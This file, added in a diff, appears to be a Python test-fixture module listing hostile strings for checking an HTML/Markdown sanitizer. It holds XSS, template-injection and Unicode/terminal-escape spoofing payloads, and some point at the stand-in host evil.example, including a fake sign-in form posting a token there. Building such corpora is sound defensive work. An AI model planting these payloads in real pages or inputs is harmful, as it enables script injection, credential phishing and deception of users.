@@ -1,0 +1,87 @@
+"""Texts that would run, load or disguise something if anything of them were taken for more than text."""
+
+EVIL = "https://evil.example"
+# Each script of the corpus leaves this mark; the tests look for it.
+MARK = "window.__xss=(window.__xss||0)+1"
+
+MARKUP = (
+    f"<script>{MARK}</script>",
+    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
+    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
+    f"<img src=x onerror='{MARK}'>",
+    f'<img src="{EVIL}/pixel.png">',
+    f"<IMG SRC=x ONERROR={MARK}//",
+    f"<svg onload='{MARK}'></svg>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"<svg><animate onbegin='{MARK}' attributeName=x dur=1s></svg>",
+    f"<svg><use href='{EVIL}/x.svg#x'></use></svg>",
+    f"<math><mtext><style><img src=x onerror='{MARK}'></style></mtext></math>",
+    f"<iframe src='{EVIL}'></iframe>",
+    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
+    f"<form action='{EVIL}'><input name=token><button autofocus>Sign in</button></form>",
+    f"<input autofocus onfocus='{MARK}'>",
+    f"<details open ontoggle='{MARK}'><summary>x</summary></details>",
+    f"<video><source onerror='{MARK}'></video>",
+    f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x'>",
+    f"<link rel=stylesheet href='{EVIL}/x.css'><base href='{EVIL}/'>",
+    f"<style>@import '{EVIL}/x.css'; body{{display:none}}</style>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<a href='javascript:{MARK}'>click</a>",
+    f"<div style='background:url({EVIL}/x)' onmouseover='{MARK}'>x</div>",
+    f"</article></div></main><h1>Sign in</h1><script>{MARK}</script>",
+    f"<template><script>{MARK}</script></template><slot></slot>",
+    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'></noscript>",
+    f"<!--><img src=x onerror='{MARK}'>-->",
+    f"<![CDATA[<script>{MARK}</script>]]>",
+    "&lt;script&gt;" + MARK + "&lt;/script&gt;",
+    "&#60;img src=x onerror=&#34;" + MARK + "&#34;&#62;",
+)
+MARKDOWN = (
+    f"[click](javascript:{MARK})",
+    f"[click](JaVaScRiPt:{MARK} 'title')",
+    f"[click](java\tscript:{MARK})",
+    f"[click](&#106;avascript:{MARK})",
+    f"[click](vbscript:{MARK})",
+    f"[click](data:text/html,<script>{MARK}</script>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    f"[a](<javascript:{MARK}>) [b]: javascript:{MARK}",
+    f"<javascript:{MARK}>",
+    f"![x]({EVIL}/pixel.png)",
+    f"![x](javascript:{MARK})",
+    f'[x]({EVIL}/"onmouseover="{MARK})',
+    f'{EVIL}/?q="><script>{MARK}</script>',
+    f"```html\n<script>{MARK}</script>\n```\n<img src=x onerror='{MARK}'>",
+    f"````\n```\n<script>{MARK}</script>\n```\n````\n``` <b onclick='{MARK}'>",
+    f"```x' onclick='{MARK}\ncode\n```",
+    f"`<img src=x onerror='{MARK}'>`",
+    f"| a | b |\n|---|---|\n| <script>{MARK}</script> | [x](javascript:{MARK}) |",
+    "> " * 500 + f"<script>{MARK}</script>",
+    "[" * 2000 + f"x](javascript:{MARK})",
+    "*" * 3000,
+)
+TEMPLATES = (
+    "{{constructor.constructor('" + MARK.replace("'", "") + "')()}}",
+    "{{7+7}} ${7+7} #{7+7} <%= 7+7 %> {% raw %}",
+    "{{_c.constructor('" + MARK + "')()}}",
+    f"v-html='<img src=x onerror={MARK}>' v-on:click='{MARK}' :href='javascript:{MARK}'",
+    f"`);{MARK};//",
+    f"';{MARK};//\";{MARK};//\\';{MARK};//",
+    "</script><script>" + MARK + "</script>",
+    '"}]);' + MARK + ';([{"',
+    "__proto__ constructor prototype toString",
+)
+DISGUISES = (
+    "\u202egnp.exe\u202c is a picture",
+    "\u2066admin\u2069 \u200badmin\u200b adm\u2060in \ufeff",
+    "\U000e0041\U000e0042 tags",
+    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
+    "\x1b[2J\x1b[1;1H$ sudo rm -rf /",
+    "line\r[2026-11-22] forged line\b\b\b\x7f",
+    "\u2028" + MARK + "\u2029",
+    "Z\u0351\u036b\u0343" * 300,
+    "\ud55c\uae00 \u0639\u0631\u0628\u064a \U0001f43e \u2800",
+    "x" * 16_000,
+    ("<b onclick='" + MARK + "'>" + "y" * 40 + "</b> ") * 160,
+)
+CORPUS = (*MARKUP, *MARKDOWN, *TEMPLATES, *DISGUISES)
+SHORT = tuple(text for text in CORPUS if len(text) <= 250)
